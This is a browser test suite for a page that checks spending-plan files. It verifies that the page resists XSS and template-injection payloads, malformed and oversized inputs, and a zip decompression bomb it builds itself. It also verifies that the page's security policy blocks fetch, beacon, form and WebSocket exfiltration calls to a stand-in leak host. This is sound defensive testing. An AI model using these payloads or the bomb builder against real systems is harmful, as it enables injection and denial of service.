// What nobody should drop on the page, and what becomes of it: an answer in words, and a page that goes on.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { deflateRawSync } from "node:zlib";
import { begin, drop, end, folder, opened, strangers, top } from "./browser.mjs";

before(begin);
after(end);

const HOSTILE = [
  "</script><script>window.broken = 1</script>",
  "<img src=x onerror=\"window.broken = 1\">",
  "\"'`><svg onload=window.broken=1>",
  "\u202eevil\u202c\u2066x\u2069",
  "{{constructor.constructor('window.broken = 1')()}}",
  "https://example.invalid/leak.png",
];

test("text that would break a page is text", async () => {
  const { page, noted, close } = await opened();
  const made = folder();
  for (const [at, text] of HOSTILE.entries()) {
    const file = join(made, `hostile-${at}.yaml`);
    const quoted = JSON.stringify(text);
    writeFileSync(file, `authority: ${quoted}\nyear: 2001-02\nform: plan\n${quoted}: ${quoted}\nletter: ${quoted}\nspending:\n  - objective: ${quoted}\n    what: ${quoted}\n`);
    await drop(page, file);
    await page.getByRole("button", { name: "Go on in the form" }).click();
    await page.waitForSelector(".filler");
    await page.getByRole("link", { name: "Check a plan" }).click();
  }
  assert.equal(await page.evaluate(() => window.broken), undefined);
  assert.deepEqual(strangers(noted), []);
  assert.deepEqual(noted.errors, []);
  await close();
});

test("a file that is no plan gets a sentence, and the next one is checked", async () => {
  const { page, close } = await opened();
  const made = folder();
  const files = {
    "empty.yaml": "",
    "binary.xlsx": Buffer.from([0x50, 0x4b, 3, 4, 0, 1, 2, 3]),
    "picture.json": Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0]),
    "deep.json": "[".repeat(100_000),
    "deep.yaml": `${"- ".repeat(50_000)}x\n`,
    "letter.yaml": "Dear Sir or Madam,\nplease find enclosed\n",
  };
  for (const [name, bytes] of Object.entries(files)) {
    writeFileSync(join(made, name), bytes);
    await drop(page, join(made, name));
    const said = await page.locator(".summary:visible, .trouble:visible").first().innerText();
    assert.ok(said.length > 20, `${name}: ${said}`);
  }
  await drop(page, join(top, "plans/2001-02/model.yaml"));
  await page.waitForSelector(".summary.ready");
  await close();
});

test("a file that is far too large is refused before it is read", async () => {
  const { page, close } = await opened();
  const file = join(folder(), "large.yaml");
  writeFileSync(file, Buffer.alloc(50 * 1024 * 1024, "a: b\n"));
  await drop(page, file);
  await page.getByText("large.yaml has 50 MB, but 32 MB is the limit").waitFor();
  await close();
});

test("a plan with far more entries than any has gets a verdict, and no form", async () => {
  const { page, close } = await opened();
  const file = join(folder(), "long.yaml");
  writeFileSync(file, `authority: Salford\nyear: 2001-02\nform: plan\nspending:\n${"  - objective: 1\n".repeat(20_000)}`);
  await drop(page, file);
  await page.getByText("More is wrong with this plan than a page can show").waitFor();
  await page.getByRole("button", { name: "Go on in the form" }).click();
  await page.getByText("the form shows 2500 at most").waitFor();
  await close();
});

test("a bomb does not freeze the page", async (context) => {
  const { page, close } = await opened();
  const file = join(folder(), "bomb.xlsx");
  writeFileSync(file, bomb());
  const began = Date.now();
  await drop(page, file);
  context.diagnostic(`answered after ${Date.now() - began} ms`);
  assert.ok((await page.locator(".summary:visible, .trouble:visible").first().innerText()).length > 20);
  await close();
});

test("whatever takes long can be stopped, and the page goes on", async () => {
  const { page, close } = await opened();
  const file = join(folder(), "long.yaml");
  writeFileSync(file, `authority: Salford\nyear: 2001-02\nform: plan\nspending:\n${"  - objective: 1\n".repeat(20_000)}`);
  await drop(page, file);
  // All that is wrong with it fills hundreds of megabytes.
  await page.getByRole("button", { name: "Findings for programs (JSON)" }).click();
  await page.getByRole("button", { name: "Stop" }).click();
  await page.getByText("You stopped it. What you wrote is still there.").waitFor();
  await drop(page, join(top, "plans/2001-02/model.yaml"));
  await page.waitForSelector(".summary.ready");
  await close();
});

test("a person who types on and on gets the last answer", async () => {
  const { page, noted, close } = await opened();
  await drop(page, join(top, "plans/2001-02/salford.yaml"));
  await page.locator(".cm-content:visible").click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type(`\n${"# a remark that goes on for long, letter by letter ".repeat(8)}`);
  await page.keyboard.type("\nno-such-field: 1\n");
  await page.getByText("no-such-field", { exact: false }).first().waitFor();
  await page.locator(".kind-put-right").getByText("no-such-field", { exact: false }).first().waitFor();
  assert.deepEqual(noted.errors, []);
  await close();
});

test("a browser without what the page needs gets a sentence", async () => {
  const without = await opened({ init: () => delete globalThis.WebAssembly });
  await without.page.getByText("This page needs a newer browser").waitFor();
  await without.close();
  const still = await opened({ javaScriptEnabled: false });
  await still.page.getByText("JavaScript is turned off").waitFor();
  await still.close();
});

/** A workbook whose one sheet unpacks to far more than any plan has. */
function bomb() {
  const sheet = deflateRawSync(Buffer.alloc(200 * 1024 * 1024, " "), { level: 9 });
  const parts = { "[Content_Types].xml": deflateRawSync("<Types/>"), "xl/workbook.xml": sheet };
  const [locals, centrals] = [[], []];
  let offset = 0;
  for (const [name, data] of Object.entries(parts)) {
    const size = name === "xl/workbook.xml" ? 200 * 1024 * 1024 : 8;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, Buffer.from(name), data);
    centrals.push(central, Buffer.from(name));
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const last = Buffer.alloc(22);
  last.writeUInt32LE(0x06054b50, 0);
  last.writeUInt16LE(2, 8);
  last.writeUInt16LE(2, 10);
  last.writeUInt32LE(directory.length, 12);
  last.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, last]);
}

test("the policy lets nothing out, whatever runs in the page", async () => {
  const { page, close } = await opened();
  // The browser tells of what it was asked for, and in the same breath that the policy stopped it.
  const out = new Map();
  page.on("request", (request) => out.set(request.url(), "sent"));
  page.on("requestfailed", (request) => out.set(request.url(), request.failure().errorText));
  const said = await page.evaluate(async () => {
    const blocked = [];
    addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
    const address = "https://example.invalid/leak";
    await fetch(address).catch(() => {});
    new Image().src = address;
    navigator.sendBeacon(address, "x");
    try {
      new WebSocket("wss://example.invalid/leak");
    } catch {}
    const form = Object.assign(document.createElement("form"), { action: address, method: "post" });
    document.body.append(form);
    form.submit();
    const script = Object.assign(document.createElement("script"), { textContent: "window.broken = 1" });
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { blocked: [...new Set(blocked)].sort(), broken: window.broken };
  });
  assert.deepEqual(said.blocked, ["connect-src", "form-action", "img-src", "script-src-elem"]);
  assert.equal(said.broken, undefined);
  assert.deepEqual([...out].filter(([, why]) => why !== "csp"), []);
  await close();
});
